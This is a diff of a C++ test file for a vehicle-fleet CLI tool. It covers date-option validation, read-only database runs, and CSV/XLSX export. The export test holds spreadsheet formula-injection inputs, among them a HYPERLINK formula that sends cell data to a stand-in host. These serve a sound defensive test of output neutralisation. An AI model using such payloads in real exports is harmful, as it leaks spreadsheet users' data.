@@ -2,6 +2,7 @@
 
 #include "alerts/rules.h"
 #include "cli/options.h"
+#include "fees/feestatistics.h"
 #include "store/failure.h"
 
 #include <QCoreApplication>
@@ -37,9 +38,11 @@ const DateForm kBadDates[] = {
     {"NoSuchDay", u"2026-02-30"_s},
     {"FullWidthDigits", u"２０２６-01-01"_s},
     {"WithTime", u"2026-01-01T00:00"_s},
+    {"TrailingNewline", u"2026-01-01\n"_s},
 };
 
-// Each date option of each command, with the rest of a valid command line.
+// Each date option of each command, with the rest of a valid command line (%D is the data
+// directory, which holds in.csv, a file import takes).
 struct DateOption {
     const char* name;
     QStringList before, after; // the date goes between
@@ -53,12 +56,17 @@ const DateOption kDateOptions[] = {
     {"FeesTo", {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s}, {}},
     {"ClaimsFrom", {u"claims"_s, u"--to"_s, u"2026-12-31"_s, u"--from"_s}, {}},
     {"ClaimsToInline", {u"claims"_s, u"--from"_s, u"2026-01-01"_s, u"--to=%1"_s}, {}},
+    {"ImportToday", {u"import"_s, u"%D/in.csv"_s, u"--dry-run"_s, u"--today"_s}, {}},
+    {"NoticesToday", {u"notices"_s, u"--format"_s, u"csv"_s, u"--today"_s}, {}},
+    {"CalendarToday", {u"calendar"_s, u"--today"_s}, {}},
 };
 
 class DateFormTest : public CliTest, public testing::WithParamInterface<std::tuple<DateOption, DateForm>> {};
 
-QStringList withDate(const DateOption& option, const QString& date) {
-    QStringList args = option.before;
+QStringList withDate(const DateOption& option, const QString& date, const QString& dataDir) {
+    QStringList args;
+    for (const QString& word : option.before)
+        args << QString(word).replace(u"%D"_s, dataDir);
     if (args.last().contains(u"%1"_s))
         args.last() = args.last().arg(date);
     else
@@ -70,7 +78,7 @@ TEST_P(DateFormTest, RefusedWithTheUsage) {
     const auto& [option, form] = GetParam();
     EXPECT_FALSE(cli::StrictDate(form.text));
     const std::string before = Sha256(dbPath());
-    const Outcome o = run(withDate(option, form.text));
+    const Outcome o = run(withDate(option, form.text, dataDir()));
     EXPECT_EQ(o.status, 2) << o.err.toStdString();
     EXPECT_TRUE(o.err.contains(u"YYYY-MM-DD"_s)) << o.err.toStdString();
     EXPECT_TRUE(o.err.contains(u"用法：velmora-cli "_s + option.before.first())) << o.err.toStdString();
@@ -86,8 +94,12 @@ INSTANTIATE_TEST_SUITE_P(OptionsAndForms, DateFormTest,
 
 // The form the usage prints is taken, by every date option.
 TEST_F(CliTest, EveryDateOptionTakesTheUsageForm) {
+    QFile csv(QDir(dataDir()).filePath(u"in.csv"_s));
+    ASSERT_TRUE(csv.open(QIODevice::WriteOnly));
+    csv.write("主车牌号,档案编号\r\n京A077,77\r\n");
+    csv.close();
     for (const DateOption& option : kDateOptions) {
-        const Outcome o = run(withDate(option, u"2026-05-20"_s));
+        const Outcome o = run(withDate(option, u"2026-05-20"_s, dataDir()));
         EXPECT_EQ(o.status, 0) << option.name << o.err.toStdString();
     }
     EXPECT_EQ(cli::StrictDate(u"2024-02-29"_s), QDate(2024, 2, 29));
@@ -114,6 +126,9 @@ const CommandLine kCommandLines[] = {
     {"AlertsArgument", {u"alerts"_s, u"now"_s}, 2},
     {"ListOutputWithoutValue", {u"list"_s, u"公司车辆台账清单"_s, u"--output"_s}, 2},
     {"ListOutputTakesNoOption", {u"list"_s, u"公司车辆台账清单"_s, u"--output"_s, u"--format"_s, u"csv"_s}, 2},
+    // "--" ends the options: it is no file name.
+    {"ListOutputDoubleDash", {u"list"_s, u"公司车辆台账清单"_s, u"--output"_s, u"--"_s}, 2},
+    {"ListOutputInlineDoubleDash", {u"list"_s, u"公司车辆台账清单"_s, u"--output=--"_s}, 2},
     {"ListTwoTitles", {u"list"_s, u"公司车辆台账清单"_s, u"拉黑车辆清单"_s}, 2},
     {"ListTitlesWithTitle", {u"list"_s, u"--titles"_s, u"拉黑车辆清单"_s}, 2},
     {"ListSingleDashOption", {u"list"_s, u"-x"_s, u"公司车辆台账清单"_s}, 2},
@@ -198,34 +213,50 @@ struct Reader {
     const char* name;
     QStringList args;
     const char* stdoutHas;
+    bool asAfterRefresh; // prints what it prints on the same file after the day's refresh
 };
 
+// The day of the fixture's due lapse flag (京A001's inspection three months overdue).
+const QString kFlagDay = u"2026-05-20"_s;
+
 const Reader kReaders[] = {
-    {"AlertsDryRunFuture", {u"alerts"_s, u"--dry-run"_s, u"--today"_s, u"2027-01-15"_s}, "拉黑车辆"},
-    {"ListFuture", {u"list"_s, u"公司车辆台账清单"_s, u"--today"_s, u"2027-01-15"_s}, "京A002"},
-    {"Fees", {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s}, "\"rows\""},
-    {"Claims", {u"claims"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s}, "张三"},
-    {"Search", {u"search"_s, u"--by"_s, u"owner"_s, u"张"_s}, "京A001"},
-    {"Show", {u"show"_s, u"京A001"_s}, "下次审车日期"},
+    {"AlertsDryRunFuture", {u"alerts"_s, u"--dry-run"_s, u"--today"_s, u"2027-01-15"_s}, "拉黑车辆", true},
+    {"ListFuture", {u"list"_s, u"公司车辆台账清单"_s, u"--today"_s, u"2027-01-15"_s}, "京A002", true},
+    // The blacklist list shows the lapse flags: the refresh's flags count as set without being written.
+    {"ListLapseFlags", {u"list"_s, u"拉黑车辆清单"_s, u"--today"_s, kFlagDay, u"--format"_s, u"csv"_s}, "拉黑", true},
+    {"Fees", {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s}, "\"rows\"", true},
+    {"Claims", {u"claims"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s}, "张三", true},
+    {"Search", {u"search"_s, u"--by"_s, u"owner"_s, u"张"_s}, "京A001", true},
+    // show prints the record as stored, flags included.
+    {"Show", {u"show"_s, u"京A001"_s}, "下次审车日期", false},
 };
 
 class ReadOnlyTest : public CliTest, public testing::WithParamInterface<Reader> {};
 
-// On the writable file (after the day's refresh has written its flags) each leaves the file
-// byte-identical; so on the same file made read-only in a read-only folder, run by a user who
+// On a file where the day's refresh would write lapse flags (shown by a copy that the writing
+// refresh changes), each leaves the file byte-identical and prints what it prints on the
+// refreshed copy; so on the same file made read-only in a read-only folder, run by a user who
 // cannot write it, where each still succeeds.
 TEST_P(ReadOnlyTest, FileStaysByteIdentical) {
     const Reader& reader = GetParam();
-    ASSERT_EQ(run({u"alerts"_s, u"--today"_s, u"2026-05-20"_s}).status, 0);
     const std::string before = Sha256(dbPath());
     const QStringList folderBefore = QDir(dataDir()).entryList(QDir::Files);
-    QStringList writable = reader.args;
-    if (QString::fromLatin1(reader.name) == u"ListFuture"_s)
-        writable.last() = u"2026-05-25"_s; // the day's flags are written: nothing left to write
-    const Outcome onWritable = runChild(writable);
+    QTemporaryDir copyDir;
+    ASSERT_TRUE(copyDir.isValid());
+    const QString refreshed = QDir(copyDir.path()).filePath(u"refreshed.mdb"_s);
+    ASSERT_TRUE(QFile::copy(dbPath(), refreshed));
+    ASSERT_EQ(run({u"alerts"_s, u"--today"_s, kFlagDay, u"--database"_s, refreshed}).status, 0);
+    ASSERT_NE(Sha256(refreshed), before) << "the refresh had nothing to write";
+    const Outcome onRefreshed = runChild(reader.args + QStringList{u"--database"_s, refreshed});
+    ASSERT_EQ(onRefreshed.status, 0) << onRefreshed.err.toStdString();
+
+    const Outcome onWritable = runChild(reader.args);
     EXPECT_EQ(onWritable.status, 0) << onWritable.err.toStdString();
     EXPECT_TRUE(onWritable.out.contains(QString::fromUtf8(reader.stdoutHas))) << onWritable.out.toStdString();
     EXPECT_EQ(Sha256(dbPath()), before);
+    if (reader.asAfterRefresh) {
+        EXPECT_EQ(onWritable.out, onRefreshed.out);
+    }
 
     const auto readable = QFileDevice::ReadOwner | QFileDevice::ReadGroup | QFileDevice::ReadOther;
     const auto enterable = readable | QFileDevice::ExeOwner | QFileDevice::ExeGroup | QFileDevice::ExeOther;
@@ -235,13 +266,9 @@ TEST_P(ReadOnlyTest, FileStaysByteIdentical) {
     QFile::setPermissions(dataDir(), enterable | QFileDevice::WriteOwner);
     QFile::setPermissions(dbPath(), readable | QFileDevice::WriteOwner);
     EXPECT_EQ(onReadOnly.status, 0) << onReadOnly.err.toStdString();
-    EXPECT_TRUE(onReadOnly.out.contains(QString::fromUtf8(reader.stdoutHas))) << onReadOnly.out.toStdString();
+    EXPECT_EQ(onReadOnly.out, onWritable.out);
     EXPECT_EQ(Sha256(dbPath()), before);
     EXPECT_EQ(QDir(dataDir()).entryList(QDir::Files), folderBefore);
-    // list computes the flags it cannot write and says so, without failing.
-    if (QString::fromLatin1(reader.name) == u"ListFuture"_s) {
-        EXPECT_TRUE(onReadOnly.err.contains(u"脱期标志未写入"_s)) << onReadOnly.err.toStdString();
-    }
 }
 
 INSTANTIATE_TEST_SUITE_P(Readers, ReadOnlyTest, testing::ValuesIn(kReaders),
@@ -353,48 +380,98 @@ TEST_F(CliTest, FlagWriteFailureSaysWhy) {
 
 struct FormulaCase {
     const char* name;
-    const char* field; // which claim field holds the text
+    const char* field; // which claim field holds the text, or "fee": the due amount of a payment
     QString text;
-    QString csv; // the CSV field written
+    QString csv;   // the CSV field written
+    char xlsxType; // how openpyxl reads the cell back: 's' a string, 'n' a number
 };
 
 const FormulaCase kFormulas[] = {
     {"EqualsInOwner", "owner", u"=HYPERLINK(\"http://x.example/?\"&A1,\"x\")"_s,
-     u"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\""_s},
-    {"MinusInPlate", "plate", u"-2+3"_s, u"'-2+3"_s},
-    {"AtInRemarks", "remarks", u"@x"_s, u"'@x"_s},
-    {"PlusInPhone", "phone", u"+86 138"_s, u"'+86 138"_s},
-    {"TabInRemarks", "remarks", u"\tcmd"_s, u"'\tcmd"_s},
-    {"CarriageReturnInRemarks", "remarks", u"\r=1+1"_s, u"\"'\r=1+1\""_s},
-    {"FormulaTypedAsAmount", "amount", u"=1+1"_s, u"'=1+1"_s},
-    {"NegativeAmountIsANumber", "amount", u"-50"_s, u"-50"_s},
-    {"PlainText", "remarks", u"已赔付"_s, u"已赔付"_s},
-    {"MinusInside", "remarks", u"a-b"_s, u"a-b"_s},
+     u"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\""_s, 's'},
+    {"MinusInPlate", "plate", u"-2+3"_s, u"'-2+3"_s, 's'},
+    {"AtInRemarks", "remarks", u"@x"_s, u"'@x"_s, 's'},
+    {"PlusInPhone", "phone", u"+86 138"_s, u"'+86 138"_s, 's'},
+    {"TabInRemarks", "remarks", u"\tcmd"_s, u"'\tcmd"_s, 's'},
+    {"CarriageReturnInRemarks", "remarks", u"\r=1+1"_s, u"\"'\r=1+1\""_s, 's'},
+    {"FormulaTypedAsAmount", "amount", u"=1+1"_s, u"'=1+1"_s, 's'},
+    {"NegativeAmountIsANumber", "amount", u"-50"_s, u"-50"_s, 'n'},
+    {"PlainText", "remarks", u"已赔付"_s, u"已赔付"_s, 's'},
+    {"MinusInside", "remarks", u"a-b"_s, u"a-b"_s, 's'},
+    // Fee amounts read as numbers even with a sign or blanks around them; only the plain form
+    // goes out unguarded.
+    {"PlusInFee", "fee", u"+5"_s, u"'+5"_s, 's'},
+    {"TabInFee", "fee", u"\t5"_s, u"'\t5"_s, 's'},
+    {"FormulaInFee", "fee", u"=1+1"_s, u"'=1+1"_s, 's'},
+    {"NegativeFeeIsANumber", "fee", u"-5"_s, u"-5"_s, 'n'},
 };
+
+// The type openpyxl gives each cell whose value reads as text (a number in %g form; a carriage
+// return, which the workbook holds escaped and openpyxl leaves so, as itself).
+QStringList xlsxTypesOf(const QString& path, const QString& text) {
+    const QString script = uR"(
+import sys, openpyxl
+for row in openpyxl.load_workbook(sys.argv[1]).active.iter_rows():
+    for c in row:
+        v = c.value
+        if v is not None and (v.replace('_x000D_', '\r') if isinstance(v, str) else '%g' % v) == sys.argv[2]:
+            print(c.data_type)
+)"_s;
+    QProcess p;
+    p.start(u"/usr/bin/python3"_s, {u"-c"_s, script, path, text});
+    if (!p.waitForFinished(60000) || p.exitCode() != 0)
+        return {u"python3 failed: "_s + QString::fromUtf8(p.readAllStandardError())};
+    return QString::fromUtf8(p.readAllStandardOutput()).split(u'\n', Qt::SkipEmptyParts);
+}
 
 class FormulaTest : public CliTest, public testing::WithParamInterface<FormulaCase> {};
 
 TEST_P(FormulaTest, CsvNeutralisesFormulaStarts) {
     const FormulaCase& f = GetParam();
-    claims::Claim c = newClaim(u"2026-04-01"_s, u"京A009"_s, u"李四"_s, u"100"_s);
     const QString field = QString::fromLatin1(f.field);
-    (field == u"owner"_s    ? c.owner
-     : field == u"plate"_s  ? c.plate
-     : field == u"phone"_s  ? c.phone
-     : field == u"amount"_s ? c.amount
-                            : c.remarks) = f.text;
-    claim(c);
-    const Outcome o = run({u"claims"_s, u"--from"_s, u"2026-04-01"_s, u"--to"_s, u"2026-04-01"_s, u"--format"_s,
-                           u"csv"_s, u"--plate"_s, c.plate});
+    const QString day = u"2026-04-01"_s;
+    QString plate = u"京A009"_s;
+    QString command = u"claims"_s;
+    if (field == u"fee"_s) {
+        plate = u"京A12345"_s; // fees takes a whole plate
+        alerts_test::Fleet fleet(db());
+        fleet.vehicle(plate);
+        const fees::FeeKind& kind = fees::Kind(0);
+        fleet.row(plate, {{u"审车车号"_s, plate},
+                          {kind.dueColumn, f.text},
+                          {kind.paidColumn, u"1"_s},
+                          {kind.dateColumn, QDate(2026, 4, 1)}});
+        command = u"fees"_s;
+    } else {
+        claims::Claim c = newClaim(day, plate, u"李四"_s, u"100"_s);
+        (field == u"owner"_s    ? c.owner
+         : field == u"plate"_s  ? c.plate
+         : field == u"phone"_s  ? c.phone
+         : field == u"amount"_s ? c.amount
+                                : c.remarks) = f.text;
+        claim(c);
+        plate = c.plate;
+    }
+    const QStringList query = {command, u"--from"_s, day, u"--to"_s, day, u"--plate"_s, plate};
+    const Outcome o = run(query + QStringList{u"--format"_s, u"csv"_s});
     ASSERT_EQ(o.status, 0) << o.err.toStdString();
     const QStringList lines = o.out.split(u"\r\n"_s);
     ASSERT_GE(lines.size(), 2) << o.out.toStdString();
-    EXPECT_TRUE((u","_s + lines.at(1) + u","_s).contains(u","_s + f.csv + u","_s))
-        << lines.at(1).toStdString() << " / " << f.csv.toStdString();
+    bool found = false;
+    for (const QString& line : lines.mid(1))
+        found = found || (u","_s + line + u","_s).contains(u","_s + f.csv + u","_s);
+    EXPECT_TRUE(found) << o.out.toStdString() << " / " << f.csv.toStdString();
     // JSON keeps the text as it is.
-    const Outcome json =
-        run({u"claims"_s, u"--from"_s, u"2026-04-01"_s, u"--to"_s, u"2026-04-01"_s, u"--plate"_s, c.plate});
+    const Outcome json = run(query);
     EXPECT_FALSE(json.out.contains(u"\"'"_s)) << json.out.toStdString();
+    // A workbook holds the text as a string, never as a formula; a number as a number.
+    const QString book = QDir(dataDir()).filePath(u"formula.xlsx"_s);
+    const Outcome xlsx = run(query + QStringList{u"--format"_s, u"xlsx"_s, u"--output"_s, book});
+    ASSERT_EQ(xlsx.status, 0) << xlsx.err.toStdString();
+    const QStringList types = xlsxTypesOf(book, f.text);
+    ASSERT_FALSE(types.isEmpty()) << "the cell is missing";
+    for (const QString& type : types)
+        EXPECT_EQ(type, QString(QLatin1Char(f.xlsxType))) << f.text.toStdString();
 }
 
 INSTANTIATE_TEST_SUITE_P(Prefixes, FormulaTest, testing::ValuesIn(kFormulas),
